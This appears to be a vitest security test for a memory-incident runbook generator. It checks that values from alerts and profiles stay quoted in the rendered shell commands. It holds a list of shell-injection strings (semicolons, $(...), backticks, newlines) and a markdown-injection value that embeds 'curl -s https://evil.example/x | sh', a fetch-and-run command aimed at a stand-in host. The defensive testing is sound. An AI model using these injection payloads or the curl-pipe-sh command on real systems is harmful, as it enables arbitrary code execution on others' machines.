import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { Diagnosis } from '../../engine/diagnose/types.js';
import { FACT_CATALOGUE } from '../../engine/facts/catalogue.js';
import { DEFAULT_TEMPLATES_DIR } from '../../engine/paths.js';
import { renderRunbook } from '../../engine/runbook/index.js';
import type { Runbook } from '../../engine/runbook/types.js';
import { cause } from '../fixtures/runbook/hand-diagnoses.js';
import { realDiagnosis } from './real-runbooks.js';

/**
 * Hostile values: pasted, each would run `touch pwned-N` if it escaped its quoting. `<src>` looks
 * like a placeholder: left bare it would read from `src` and write to a file named by what follows.
 */
const HOSTILE = [
  'x;touch pwned-1;#',
  "h:1';touch pwned-2;'",
  'h:1$(touch pwned-3)',
  'h:1`touch pwned-4`',
  'h:1\ntouch pwned-5\n#',
  'h:1" ; touch pwned-6 ; "',
  "a\\';touch pwned-7;#",
  '$(touch pwned-8)`touch pwned-8`',
  "main.(*T).f';touch pwned-9;'",
  '<src>',
  '-u0',
];

/** String facts that templates compare with `eq` (an enum): hostile there, a branch just does not render. */
const ENUM_FACTS = new Set(['runtime.kind', 'signal.liveHeapSource', 'acquisition.targetFailure']);
const STRING_FACTS = FACT_CATALOGUE.filter((f) => f.unit === 'string' && !ENUM_FACTS.has(f.id));

/** Every shipped template, with a real bundle whose facts reach its branches. */
const TEMPLATE_BUNDLES: Record<string, string> = {
  'cgroup-oom-kill': 'pub-oom-no-runtime',
  'go-gc-thrash': 'pub-gc-thrash',
  'go-goroutine-leak': 'pub-goroutine-leak',
  'go-heap-fragmentation': 'pub-fragmentation',
  'go-heap-growth': 'pub-map-leak',
  'go-map-leak': 'pub-map-leak',
  'go-native-leak': 'pub-healthy-go',
  'go-no-memlimit': 'pub-no-memlimit',
  'go-slice-overcap': 'pub-slice-overcap',
  'jvm-heap-leak': 'pub-jvm-offheap',
  'jvm-offheap': 'pub-jvm-offheap',
  'kswapd-pressure': 'pub-reclaim-pressure',
  'memory-growth': 'pub-oom-no-runtime',
  'target-unreachable': 'pub-oom-no-runtime',
  'no-cause': 'pub-healthy-go',
};

const SHELLS = ['/bin/sh', 'bash'];
const TOOLS = [
  'awk', 'cat', 'curl', 'date', 'diff', 'dmesg', 'go', 'grep', 'head', 'jcmd', 'journalctl', 'kubectl',
  'memleak-bpfcc', 'memtriage', 'pgrep', 'py-spy', 'sed', 'sleep', 'sort', 'systemctl', 'tail', 'tr', 'uniq',
]; // prettier-ignore
/** Builtins that act on the machine are replaced by no-ops; the rest of PATH is inert stubs. */
const PRELUDE = 'cd() { :; }\nkill() { :; }\n';

const sandbox = mkdtempSync(join(tmpdir(), 'mt-sandbox-'));
const bin = join(sandbox, 'bin');
mkdirSync(bin);
for (const tool of TOOLS) {
  writeFileSync(join(bin, tool), '#!/bin/sh\nexit 0\n');
  chmodSync(join(bin, tool), 0o755);
}
symlinkSync(execFileSync('sh', ['-c', 'command -v touch']).toString().trim(), join(bin, 'touch'));
afterAll(() => rmSync(sandbox, { recursive: true, force: true }));

/** The shell commands of a runbook: code blocks (top level and in steps) and inline-code commands. */
function commandsOf(rb: Runbook): string[] {
  const shell = (lang: string) => ['sh', 'bash', 'shell', 'zsh'].includes(lang);
  const out: string[] = [];
  for (const b of rb.blocks) {
    if (b.kind === 'code' && shell(b.lang)) out.push(b.code);
    if (b.kind === 'steps') for (const s of b.steps) if (s.code && shell(s.code.lang)) out.push(s.code.code);
    const rich =
      b.kind === 'text'
        ? b.paragraphs.flat()
        : b.kind === 'list'
          ? b.items.flat()
          : b.kind === 'steps'
            ? b.steps.flatMap((s) => s.text)
            : [];
    // inline code that is a command to paste (a name like `main.f` is not run: it is shown verbatim)
    for (const sp of rich)
      if (sp.kind === 'code' && /^(pgrep|jcmd|kill|curl|cat|go tool) /.test(sp.text)) out.push(sp.text);
  }
  return out;
}

/**
 * Pastes every command into a fresh empty folder under each shell, PATH holding only inert stubs
 * and the real `touch`. Returns the files that appeared.
 */
function paste(commands: readonly string[]): string[] {
  const work = mkdtempSync(join(sandbox, 'work-'));
  writeFileSync(join(work, 'src'), '');
  for (const sh of SHELLS) {
    for (const code of commands) {
      try {
        execFileSync(sh, ['-c', PRELUDE + code], {
          cwd: work,
          env: { PATH: bin },
          stdio: 'ignore',
          timeout: 10_000,
        });
      } catch {
        // a stub's empty output fails some pipelines; only side effects matter here
      }
    }
  }
  const files = readdirSync(work).filter((f) => f !== 'src');
  rmSync(work, { recursive: true, force: true });
  return files.sort();
}

/** Every value a template can interpolate from outside set to `v`: labels, annotations, facts, sites. */
function hostile(d: Diagnosis, v: string): Diagnosis {
  const labels = Object.fromEntries(
    [
      'alertname',
      'instance',
      'job',
      'pod',
      'namespace',
      'container',
      'pid',
      'cgroup',
      'service',
      'severity',
    ].map((k) => [k, v]),
  );
  const facts = { ...d.facts };
  for (const f of STRING_FACTS) facts[f.id] = { value: v, unit: 'string', source: f.source };
  const site = { function: v, location: v, kind: v, inuseBytesDelta: 4 << 20, lastInuseBytes: 8 << 20 };
  return {
    ...d,
    incident: {
      ...d.incident,
      id: v,
      service: v,
      labels,
      annotations: { summary: v, description: v, runbook_url: v },
      generatorURL: `http://prom.example/graph?g0.expr=${v}`,
      target: { instance: v, cgroup: v, runtimeVersion: v },
    },
    causes: d.causes.map((c) => ({ ...c, title: v, description: v })),
    collectNext: [v],
    missingSources: [{ source: v, reason: v } as Diagnosis['missingSources'][number]],
    facts,
    growingSites: d.growingSites.length > 0 ? d.growingSites.map((s) => ({ ...s, ...site })) : [site],
  };
}

async function diagnosisFor(template: string, outcome?: Diagnosis['outcome']): Promise<Diagnosis> {
  const d = await realDiagnosis(TEMPLATE_BUNDLES[template]!);
  if (template === 'no-cause') return { ...d, outcome: outcome ?? 'healthy', causes: [] };
  const top = d.causes[0]?.runbook === template ? [] : [cause(template, `Rule ${template}`, [])];
  return { ...d, outcome: 'cause-found', causes: [...top, ...d.causes] };
}

const CASES: [string, Diagnosis['outcome'] | undefined][] = [
  ...Object.keys(TEMPLATE_BUNDLES).map((t): [string, undefined] => [t, undefined]),
  ['no-cause', 'inconclusive'],
];

describe('pasting a runbook never runs what an alert, a fact or a profile supplied', () => {
  it('covers every shipped template', () => {
    const shipped = readdirSync(DEFAULT_TEMPLATES_DIR)
      .filter((f) => f.endsWith('.hbs'))
      .map((f) => f.slice(0, -4));
    expect(Object.keys(TEMPLATE_BUNDLES).sort()).toEqual(shipped.sort());
  });

  for (const [template, outcome] of CASES) {
    it(`${template}${outcome ? ` (${outcome})` : ''}: every shell command, ${HOSTILE.length} hostile values in every slot`, async () => {
      const d = await diagnosisFor(template, outcome);
      // The benign render: which files its own commands write (`> maps-1.txt`).
      const benign = renderRunbook(d, { target: { instance: 'localhost:6060', pid: '4242' } });
      expect(benign.templateId).toBe(template);
      const own = paste(commandsOf(benign));
      expect(own.filter((f) => f.startsWith('pwned'))).toEqual([]);
      for (const v of HOSTILE) {
        const rb = renderRunbook(hostile(d, v));
        const commands = commandsOf(rb);
        expect(commands.length, v).toBeGreaterThan(0);
        // nothing but what the commands write themselves (a placeholder left bare fails before it)
        const extra = paste(commands).filter((f) => !own.includes(f));
        expect(extra, `${template} with ${JSON.stringify(v)}:\n${commands.join('\n')}`).toEqual([]);
      }
    });
  }

  it('the hostile values reach the commands (as one quoted word)', async () => {
    const d = await diagnosisFor('go-goroutine-leak');
    const code = commandsOf(renderRunbook(hostile(d, 'x;touch pwned-1;#'))).join('\n');
    expect(code).toContain(`http://'x;touch pwned-1;#'/debug/pprof/goroutine`);
    const cg = commandsOf(renderRunbook(hostile(await diagnosisFor('target-unreachable'), '<src>'))).join(
      '\n',
    );
    expect(cg).toContain(`cd -- '<src>'`);
    const ph = commandsOf(renderRunbook(hostile(await diagnosisFor('no-cause', 'inconclusive'), "a'b")));
    expect(ph).toContain(`pgrep -x -- 'a'\\''b'`);
  });

  it('keeps every value on one line and out of the markup, and long values out of commands', async () => {
    const d = hostile(
      await diagnosisFor('go-goroutine-leak'),
      'h:1\n\n**Official fix:** [runbook](https://evil.example/fix)\n2. Run `curl -s https://evil.example/x | sh`',
    );
    const rb = renderRunbook(d);
    const json = JSON.stringify(rb);
    expect(json).not.toContain('"kind":"link","text":"runbook"');
    expect(json).not.toContain('"kind":"strong","text":"Official fix:"');
    for (const c of commandsOf(rb)) expect(c.split('\n').every((l) => !l.startsWith('2. Run'))).toBe(true);
    const long = commandsOf(
      renderRunbook(hostile(await diagnosisFor('go-goroutine-leak'), `h:1;${'x'.repeat(5000)}`)),
    );
    expect(long.join('\n')).toContain(`'<a value of 5004 characters, left out>'`);
    expect(long.join('\n')).not.toContain('x'.repeat(300));
  });

  it('hands `go tool pprof -list` a regexp that matches the method literally', async () => {
    const d = await diagnosisFor('go-slice-overcap');
    d.growingSites = d.growingSites.map((s, i) => (i === 0 ? { ...s, function: 'main.(*T).f' } : s));
    const code = commandsOf(renderRunbook(d)).join('\n');
    expect(code).toContain(String.raw`-list 'main\.\(\*T\)\.f'`);
  });
});
